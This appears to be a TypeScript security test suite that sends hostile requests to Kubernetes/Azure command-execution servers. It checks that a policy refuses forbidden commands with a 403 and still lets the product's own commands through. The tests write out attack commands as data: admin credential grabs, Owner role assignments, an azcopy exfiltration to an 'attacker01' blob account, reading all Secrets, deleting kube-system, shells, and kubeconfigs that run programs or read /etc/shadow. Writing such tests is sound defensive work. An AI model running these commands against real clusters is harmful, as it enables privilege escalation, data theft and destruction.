// Hostile requests to the exec servers: the stack's (local policy) and one of our own running the production
// policy. Missing and wrong tokens, wrong methods and routes, malformed and oversize bodies with the right token,
// and the policy escapes the design forbids (cluster-admin credentials, any role at any scope, blob copies,
// reading every Secret, deleting namespaces) — each must be a 403 naming the rule. The commands the product itself
// builds are sent too, through the product's own builders, to show the policy still lets the product work.
import { applyArgv, aksCredentialSteps } from '../../../adapters/cluster-exec';
import { parseTarget, type AksTarget } from '../../../core/targets';
import { createRoleStep, requiredRoles } from '../../../core/workload-identity';
import { bytesFor, type HostileContext } from '../context';
import { methodNotAllowed, refused, refusedWith, statusIn, type Case, type Expectation, type Part } from '../ledger';

const SUB = '6f1c1f6e-3e0a-4c4e-9a53-2f1f0d3c5b7a';
const OWNER_ROLE_ID = '8e3af657-a8ff-443c-a75c-2fe8c4bcb635';
const PRINCIPAL = '0d4b2c9e-7a1f-4f55-8b8e-3c2d1e0f9a6b';

/** An AKS target as the product would configure it, to build the commands the product emits for it. */
export function sampleAksTarget(): AksTarget {
  return parseTarget(
    { name: 'aks1', kind: 'aks', subscriptionId: SUB, resourceGroup: 'rg-elb', clusterName: 'aks-elb' },
    0,
  ) as AksTarget;
}

const KUBECTL = ['kubectl', '--kubeconfig', 'kubeconfig'];

/** Commands the design forbids in production, as an attacker holding the token would phrase them. */
export function productionEscapes(): Array<{ what: string; argv: string[] }> {
  const t = sampleAksTarget();
  const cluster = ['--subscription', SUB, '--resource-group', t.resourceGroup, '--name', t.clusterName];
  const roleCreate = (role: string, scope: string) => [
    'az',
    'role',
    'assignment',
    'create',
    '--subscription',
    SUB,
    '--assignee-object-id',
    PRINCIPAL,
    '--assignee-principal-type',
    'ServicePrincipal',
    '--role',
    role,
    '--scope',
    scope,
    '--output',
    'none',
    '--only-show-errors',
  ];
  const subScope = `/subscriptions/${SUB}`;
  const clusterScope = `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.ContainerService/managedClusters/${t.clusterName}`;
  return [
    {
      what: 'az aks get-credentials --admin',
      argv: ['az', 'aks', 'get-credentials', ...cluster, '--file', 'kubeconfig', '--overwrite-existing', '--admin'],
    },
    {
      what: 'az aks get-credentials --admin (first)',
      argv: ['az', 'aks', 'get-credentials', '--admin', ...cluster, '--file', 'kubeconfig'],
    },
    { what: 'az role assignment create --role Owner --scope /subscriptions/…', argv: roleCreate('Owner', subScope) },
    {
      what: 'az role assignment create --role <Owner id> --scope /subscriptions/…',
      argv: roleCreate(OWNER_ROLE_ID, subScope),
    },
    {
      what: 'az role assignment create --role "User Access Administrator"',
      argv: roleCreate('User Access Administrator', subScope),
    },
    {
      what: 'az role assignment create --role Contributor on the resource group',
      argv: roleCreate('Contributor', `${subScope}/resourceGroups/${t.resourceGroup}`),
    },
    {
      what: 'az role assignment create --role Owner on the cluster',
      argv: roleCreate(
        'Owner',
        `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.ContainerService/managedClusters/${t.clusterName}`,
      ),
    },
    {
      what: 'az role assignment create (the cluster user role) at subscription scope',
      argv: roleCreate('Azure Kubernetes Service Cluster User Role', subScope),
    },
    {
      what: 'az role assignment create (cluster admin role) on the cluster',
      argv: roleCreate(
        'Azure Kubernetes Service RBAC Cluster Admin',
        `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.ContainerService/managedClusters/${t.clusterName}`,
      ),
    },
    {
      what: 'azcopy copy between arbitrary accounts',
      argv: [
        'azcopy',
        'copy',
        'https://victim01.blob.core.windows.net/data/*',
        'https://attacker01.blob.core.windows.net/loot/',
        '--recursive',
      ],
    },
    { what: 'azcopy list', argv: ['azcopy', 'list', 'https://victim01.blob.core.windows.net/data'] },
    { what: 'kubectl get secrets -A -o yaml', argv: [...KUBECTL, 'get', 'secrets', '-A', '-o', 'yaml'] },
    {
      what: 'kubectl get secret <name> -o yaml',
      argv: [...KUBECTL, 'get', 'secret', 'elb-openapi-api-token', '-n', 'elb-openapi', '-o', 'yaml'],
    },
    {
      what: 'kubectl get secrets (resource/name form)',
      argv: [...KUBECTL, 'get', 'secrets/elb-openapi-api-token', '-n', 'elb-openapi', '-o', 'json'],
    },
    {
      what: 'kubectl get secrets (in a list of kinds)',
      argv: [...KUBECTL, 'get', 'deployments,secrets', '-A', '-o', 'yaml'],
    },
    { what: 'kubectl get secrets (qualified kind)', argv: [...KUBECTL, 'get', 'secrets.v1.', '-A', '-o', 'yaml'] },
    {
      what: 'kubectl get all,secret',
      argv: [...KUBECTL, 'get', 'all,secret', '-A', '-o', 'jsonpath={.items[*].data}'],
    },
    { what: 'kubectl get Secret (letter case)', argv: [...KUBECTL, 'get', 'Secrets', '-A', '-o', 'yaml'] },
    { what: 'kubectl delete ns', argv: [...KUBECTL, 'delete', 'ns', 'elb-openapi'] },
    { what: 'kubectl delete namespace kube-system', argv: [...KUBECTL, 'delete', 'namespace', 'kube-system'] },
    { what: 'kubectl exec', argv: [...KUBECTL, 'exec', '-n', 'elb-openapi', 'elb-openapi-0', '--', 'sh'] },
    {
      what: 'kubectl create clusterrolebinding',
      argv: [...KUBECTL, 'create', 'clusterrolebinding', 'evil', '--clusterrole=cluster-admin', '--user=evil'],
    },
    { what: 'kubectl proxy', argv: [...KUBECTL, 'proxy', '--address=0.0.0.0'] },
    { what: 'kubectl port-forward', argv: [...KUBECTL, 'port-forward', 'svc/elb-openapi', '9999:8080'] },
    { what: 'kubectl config view --raw', argv: [...KUBECTL, 'config', 'view', '--raw'] },
    {
      what: 'az keyvault secret show',
      argv: ['az', 'keyvault', 'secret', 'show', '--vault-name', 'kv', '--name', 'exec-token'],
    },
    {
      what: 'az aks command invoke',
      argv: ['az', 'aks', 'command', 'invoke', ...cluster, '--command', 'kubectl get secrets -A'],
    },
    { what: 'az account get-access-token', argv: ['az', 'account', 'get-access-token'] },
    { what: 'a shell', argv: ['sh', '-c', 'id'] },
    { what: 'node -e', argv: ['node', '-e', 'process.exit(0)'] },
    {
      what: 'az aks get-credentials -a (short --admin)',
      argv: ['az', 'aks', 'get-credentials', ...cluster, '--file', 'kubeconfig', '-a'],
    },
    // The product's role assignment with its role and scope, but the flag given twice (az takes the last).
    {
      what: 'az role assignment create, the allowed role then --role Owner',
      argv: [...roleCreate('Azure Kubernetes Service Cluster User Role', clusterScope), '--role', 'Owner'],
    },
    {
      what: 'az role assignment create, the cluster scope then --scope /subscriptions/…',
      argv: [...roleCreate('Azure Kubernetes Service Cluster User Role', clusterScope), '--scope', subScope],
    },
    {
      what: 'az role assignment create --role=Owner (equals form)',
      argv: [...roleCreate('Reader', clusterScope).filter((a) => a !== 'Reader' && a !== '--role'), '--role=Owner'],
    },
    {
      what: 'az role assignment create, a cluster scope climbing out with ..',
      argv: roleCreate('Azure Kubernetes Service Cluster User Role', `${clusterScope}/../../../..`),
    },
    {
      what: 'az role assignment create, the storage role on the subscription',
      argv: roleCreate('Storage Blob Data Contributor', subScope),
    },
    {
      what: 'az role assignment create, the storage role on a cluster',
      argv: roleCreate('Storage Blob Data Contributor', clusterScope),
    },
    {
      what: 'az role assignment create, Owner by id on a storage account',
      argv: roleCreate(
        OWNER_ROLE_ID,
        `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.Storage/storageAccounts/victim01`,
      ),
    },
    ...applyEscapes(),
  ];
}

/** The product's apply with a global flag that points kubectl elsewhere, raises its rights or logs its token. */
function applyEscapes(): Array<{ what: string; argv: string[] }> {
  const apply = applyArgv();
  const withGlobal = (...flags: string[]) => [apply[0]!, ...flags, ...apply.slice(1)];
  return [
    { what: 'kubectl apply --as system:admin (impersonation)', argv: withGlobal('--as', 'system:admin') },
    { what: 'kubectl apply --as-group system:masters', argv: withGlobal('--as-group', 'system:masters') },
    { what: 'kubectl apply --server (another cluster)', argv: withGlobal('--server', 'https://evil.example:6443') },
    { what: 'kubectl apply --token', argv: withGlobal('--token', 'stolen') },
    { what: 'kubectl apply --insecure-skip-tls-verify', argv: withGlobal('--insecure-skip-tls-verify') },
    { what: 'kubectl apply -v=9 (logs the bearer token)', argv: withGlobal('-v=9') },
    {
      what: 'kubectl apply --kubeconfig outside the work dir',
      argv: ['kubectl', '--kubeconfig', '/root/.kube/config', ...apply.slice(3)],
    },
    { what: 'kubectl apply -f a server file', argv: [...apply.slice(0, -1), '/etc/passwd'] },
  ];
}

/** The same principle for the local policy: nothing the product does not need. */
export function localEscapes(): Array<{ what: string; argv: string[] }> {
  return [
    { what: 'kubectl delete ns', argv: [...KUBECTL, 'delete', 'ns', 'elb-openapi'] },
    { what: 'kubectl delete namespace kube-system', argv: [...KUBECTL, 'delete', 'namespace', 'kube-system'] },
    { what: 'kubectl delete ns --all', argv: [...KUBECTL, 'delete', 'ns', '--all'] },
    { what: 'kubectl get secrets -A -o yaml', argv: [...KUBECTL, 'get', 'secrets', '-A', '-o', 'yaml'] },
    {
      what: 'kubectl get secret <name> -o yaml',
      argv: [...KUBECTL, 'get', 'secret', 'elb-openapi-api-token', '-n', 'elb-openapi', '-o', 'yaml'],
    },
    { what: 'kubectl get deployments,secrets', argv: [...KUBECTL, 'get', 'deployments,secrets', '-A', '-o', 'yaml'] },
    { what: 'kubectl exec', argv: [...KUBECTL, 'exec', '-n', 'elb-openapi', 'elb-openapi-0', '--', 'sh'] },
    { what: 'kubectl config view --raw', argv: [...KUBECTL, 'config', 'view', '--raw'] },
    {
      what: 'az role assignment create',
      argv: [
        'az',
        'role',
        'assignment',
        'create',
        '--role',
        'Owner',
        '--scope',
        `/subscriptions/${SUB}`,
        '--assignee-object-id',
        PRINCIPAL,
      ],
    },
    {
      what: 'azcopy copy',
      argv: [
        'azcopy',
        'copy',
        'https://victim01.blob.core.windows.net/data/*',
        'https://attacker01.blob.core.windows.net/loot/',
      ],
    },
    { what: 'a shell', argv: ['sh', '-c', 'id'] },
    ...applyEscapes(),
  ];
}

/** The commands the product builds, for the policy it runs under; each must not be refused. */
function productCommands(policy: 'local' | 'production'): Array<{ what: string; steps: Array<{ argv: string[] }> }> {
  const apply = { what: 'the product apply', steps: [{ argv: applyArgv() }] };
  if (policy === 'local') return [apply];
  const t = sampleAksTarget();
  return [
    apply,
    { what: 'the product AKS credential steps', steps: aksCredentialSteps(t, null).map((s) => ({ argv: s.argv })) },
    ...requiredRoles(t).map((r) => ({
      what: `the product role assignment (${r.role})`,
      steps: [{ argv: createRoleStep(t, PRINCIPAL, r).argv }],
    })),
  ];
}

const deniedByPolicy: Expectation = {
  describe: '403 denied_by_policy naming the rule',
  check: (res, body) => {
    const b = body as { code?: unknown; rule?: unknown } | undefined;
    if (res.status !== 403 || b?.code !== 'denied_by_policy')
      return `got ${res.status} ${String(b?.code)}${res.status === 200 ? ' (it ran)' : ''}`;
    return typeof b.rule === 'string' && b.rule !== '' ? undefined : 'no rule named';
  },
};

const notRefused: Expectation = {
  describe: 'the product command to be let through (200)',
  check: (res, body) => (res.status === 200 ? undefined : `got ${res.status} ${JSON.stringify(body)?.slice(0, 200)}`),
};

export function execCases(ctx: HostileContext, policy: 'local' | 'production'): Case[] {
  const port = policy === 'local' ? ctx.ports.exec : ctx.ports.execProduction;
  const token = policy === 'local' ? ctx.execToken : ctx.execProductionToken;
  const part: Part = policy === 'local' ? 'exec-local' : 'exec-production';
  const cases: Case[] = [];
  const add = (
    kind: string,
    r: Parameters<typeof bytesFor>[1],
    expect?: Expectation,
    timeoutMs?: number,
    cutOffOk = false,
  ) => cases.push({ part, kind, port, bytes: bytesFor(port, r), expect, timeoutMs, cutOffOk });
  const auth: Array<[string, string]> = [
    ['X-Exec-Token', token],
    ['Content-Type', 'application/json'],
  ];
  const files = { kubeconfig: ctx.deadKubeconfig };
  const exec = (kind: string, body: unknown, expect?: Expectation) =>
    add(kind, { method: 'POST', target: '/exec', headers: auth, body: JSON.stringify(body) }, expect, 30_000);

  // Policy escapes: 403 with the rule, on /exec and /exec/stream, alone and hidden as a later step.
  for (const { what, argv } of policy === 'production' ? productionEscapes() : localEscapes()) {
    const request = { argv, files, timeout_seconds: 20 };
    const later = { steps: [{ argv: [...KUBECTL, 'version', '--client'] }, { argv }], files, timeout_seconds: 20 };
    for (const [detail, target, body] of [
      ['POST /exec', '/exec', request],
      ['POST /exec/stream', '/exec/stream', request],
      ['as a later step', '/exec', later],
    ] as const) {
      cases.push({
        part,
        kind: `policy escape: ${what}`,
        detail,
        port,
        bytes: bytesFor(port, { method: 'POST', target, headers: auth, body: JSON.stringify(body) }),
        expect: deniedByPolicy,
        timeoutMs: 30_000,
      });
    }
  }
  // What the product itself sends: let through (it then fails on the dead cluster or the missing az, harmlessly).
  for (const { what, steps } of productCommands(policy)) {
    exec(
      `product command: ${what}`,
      steps.length === 1
        ? { argv: steps[0]!.argv, stdin: '', files, timeout_seconds: 20 }
        : { steps, files, timeout_seconds: 20 },
      notRefused,
    );
  }

  // Tokens.
  const body = JSON.stringify({ argv: [...KUBECTL, 'version', '--client'] });
  const wrongTokens: Array<Array<[string, string]>> = [
    [],
    [['X-Exec-Token', '']],
    [['X-Exec-Token', ctx.rng.hex(64)]],
    [['X-Exec-Token', `${token}x`]],
    [['X-Exec-Token', token.slice(0, -1)]],
    [['X-Exec-Token', ` ${token.toUpperCase()} `]],
    [['Authorization', `Bearer ${ctx.rng.hex(64)}`]],
    [['Authorization', `Basic ${Buffer.from(`x:${token}`).toString('base64')}`]],
    [['Authorization', `bearer  ${token}x`]],
    [['Cookie', `token=${token}`]],
    ...(ctx.keys.system ? [[['X-Exec-Token', ctx.keys.system]] as Array<[string, string]>] : []),
  ];
  for (const headers of wrongTokens) {
    for (const target of ['/exec', '/exec/stream', `/exec/req-${ctx.rng.hex(6)}`]) {
      add(
        'missing or wrong token',
        {
          method: target.startsWith('/exec/req') ? 'DELETE' : 'POST',
          target,
          headers: [['Content-Type', 'application/json'], ...headers],
          body: target.startsWith('/exec/req') ? undefined : body,
        },
        refusedWith(401, 'unauthorized'),
      );
    }
  }
  add(
    'token in the query string',
    { method: 'POST', target: `/exec?token=${token}`, headers: [['Content-Type', 'application/json']], body },
    refusedWith(401, 'unauthorized'),
  );

  // Routes and methods.
  for (const method of ['GET', 'PUT', 'PATCH'])
    add('wrong method', { method, target: '/exec', headers: auth }, methodNotAllowed);
  add('wrong method', { method: 'POST', target: '/healthz' }, methodNotAllowed);
  for (const target of ['/', '/nope', '/exec/', '/exec/stream/x', '/healthz/x', '/%E0%A4%A', '//exec', '/exec?x=%']) {
    add('unknown route', { method: 'GET', target, headers: auth }, statusIn(404, 405, 400));
  }

  // Malformed bodies with the token: 400 with a code, never run.
  const bad: unknown[] = [
    {},
    { argv: [] },
    { argv: 'kubectl version' },
    { argv: [1, 2] },
    { argv: ['kubectl\u0000', 'version'] },
    { argv: ['kubectl', 'version', '--client'], extra: 1 },
    { argv: ['kubectl', 'version'], steps: [] },
    { steps: [] },
    { steps: Array.from({ length: 40 }, () => ({ argv: ['kubectl', 'version', '--client'] })) },
    { argv: ['kubectl', 'version', '--client'], timeout_seconds: -1 },
    { argv: ['kubectl', 'version', '--client'], timeout_seconds: 1e12 },
    { argv: ['kubectl', 'version', '--client'], timeout_seconds: '10' },
    { argv: ['kubectl', 'version', '--client'], stdin: 5 },
    { argv: ['kubectl', 'version', '--client'], files: { '../escape': 'x' } },
    { argv: ['kubectl', 'version', '--client'], files: { '.hidden': 'x' } },
    { argv: ['kubectl', 'version', '--client'], files: { 'a/b': 'x' } },
    {
      argv: ['kubectl', 'version', '--client'],
      files: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`f${i}`, 'x'])),
    },
    { argv: ['kubectl', 'version', '--client'], files: { kubeconfig: 5 } },
    { argv: ['kubectl', 'version', '--client'], request_id: '../../x' },
    { argv: ['kubectl', 'version', '--client'], request_id: 'x'.repeat(500) },
    { argv: Array.from({ length: 5000 }, () => 'x') },
    { argv: ['kubectl', 'x'.repeat(100_000)] },
    { argv: ['/bin/sh', '-c', 'id'] },
    { argv: ['./kubectl', 'version'] },
    [],
    null,
  ];
  for (const b of bad) exec('malformed exec body', b, refused);
  for (const raw of [
    '{',
    '',
    'not json',
    '\uFEFF',
    '{"argv":["kubectl"],"argv":["sh","-c","id"]}',
    '{"__proto__":{"argv":["sh","-c","id"]}}',
  ]) {
    add('unparsable exec body', { method: 'POST', target: '/exec', headers: auth, body: raw }, refused);
  }
  // A kubeconfig that makes kubectl run a program or read a server file: refused before anything runs.
  const evilKubeconfigs = [
    'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: ["-c", "id"]\n',
    'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    tokenFile: /etc/shadow\n',
    'apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://127.0.0.1:1\n    certificate-authority: /proc/self/environ\n',
    '{{{{',
  ];
  for (const kubeconfig of evilKubeconfigs)
    exec('hostile kubeconfig', { argv: [...KUBECTL, 'get', 'pods'], files: { kubeconfig } }, refused);

  // Oversize: declared and real.
  add(
    'declared body over the limit (no body sent)',
    {
      method: 'POST',
      target: '/exec',
      headers: [...auth, ['Content-Length', String(512 * 1024 * 1024)]],
    },
    statusIn(413),
  );
  add(
    'body over the limit (9 MiB)',
    {
      method: 'POST',
      target: '/exec',
      headers: auth,
      body: JSON.stringify({ argv: [...KUBECTL, 'apply', '-f', '-'], stdin: 's'.repeat(9 * 1024 * 1024) }),
    },
    refused,
    30_000,
    true,
  );
  return cases;
}
